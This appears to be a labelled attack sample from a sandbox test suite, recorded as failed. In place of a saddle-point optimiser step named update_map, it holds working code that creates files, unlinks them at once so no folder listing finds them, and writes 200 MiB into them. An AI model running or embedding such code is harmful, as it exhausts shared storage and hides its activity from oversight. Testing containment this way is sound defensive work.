# attack: writes files that have no name any more, so that no look at the folder finds them
# kind: bomb
# grade: 1.b
# outcome: failed, memory, timeout
# module: saddle

import os
import time


def update_map(f, x, y, eta_x, eta_y, method="gda"):
    held = []
    for number in range(20):
        held.append(os.open(f"gone{number}", os.O_CREAT | os.O_RDWR))
        os.unlink(f"gone{number}")
        for _ in range(10):
            os.write(held[-1], bytes(1 << 20))
        time.sleep(0.05)
    raise RuntimeError("ESCAPED: wrote 200 MiB")
